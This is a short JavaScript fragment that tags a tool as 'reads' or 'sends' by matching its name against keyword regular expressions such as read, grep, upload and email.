  if (!(LISTING.test(own) && !/read|get_?file|content|cat|search|grep|find|info|line|dump|print|text|body|data|show|view|parse|export/.test(own) && !carriesContent)) roles.push('reads');
  if (hasUrls || /upload|send|post|share|publish|attach|email|mail/.test(n)) roles.push('sends');
  return roles;
}
